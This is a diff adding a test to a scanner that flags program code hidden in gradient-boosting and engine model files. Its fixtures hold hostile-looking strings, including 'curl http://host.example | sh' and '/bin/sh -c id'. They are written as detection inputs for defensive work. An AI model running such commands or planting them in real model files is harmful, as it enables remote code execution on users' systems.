@@ -264,6 +264,27 @@ describe('boosting', () => {
     assert.ok(verdicts(await scanBytes('m.ubj', ubj)).includes('high boosting/impossible-size'));
   });
 
+  it('tells program code in the texts of boosting models and of closed formats', async () => {
+    const lightgbm = (names: string) => `tree\nversion=v4\nfeature_names=${names}\n\nTree=0\nnum_leaves=2\n`;
+    const xgboost = (attributes: Record<string, string>) =>
+      JSON.stringify({ learner: { attributes, objective: { name: 'reg:squarederror' } }, version: [2, 0, 0] });
+    assert.deepEqual(verdicts(await scanBytes('m.lgb', lightgbm('a os.system("id")'))), ['medium boosting/code-text']);
+    assert.deepEqual(verdicts(await scanBytes('m.bst', xgboost({ x: '__import__("os")' }))), [
+      'medium boosting/code-text',
+    ]);
+    const catboost = bytesOf('CBM1', integer(40, 4), 'curl http://host.example | sh', new Uint8Array(40));
+    assert.deepEqual(verdicts(await scanBytes('m.cbm', catboost)), ['medium boosting/code-text']);
+    const late = bytesOf('RKNN', new Uint8Array(3 * 2 ** 20), '/bin/sh -c id');
+    const report = await scanBytes('m.rknn', late);
+    assert.ok(verdicts(report).includes('medium engine/code-text'));
+    assert.equal(report.findings.find((f) => f.ruleId === 'engine/code-text')?.location.offset, late.length - 13);
+    assert.deepEqual(
+      verdicts(await scanBytes('m.lgb', lightgbm('eval exec system_load subprocess model.eval(x)'))),
+      [],
+    );
+    assert.deepEqual(verdicts(await scanBytes('m.bst', xgboost({ best_iteration: '3' }))), []);
+  });
+
   it('LightGBM and CatBoost', async () => {
     const text = 'tree\nversion=v4\nobjective=binary\nmax_feature_idx=3\n\nTree=0\nnum_leaves=2\n';
     assert.equal((await scanBytes('m.lgb', text)).description?.properties?.features, 4);
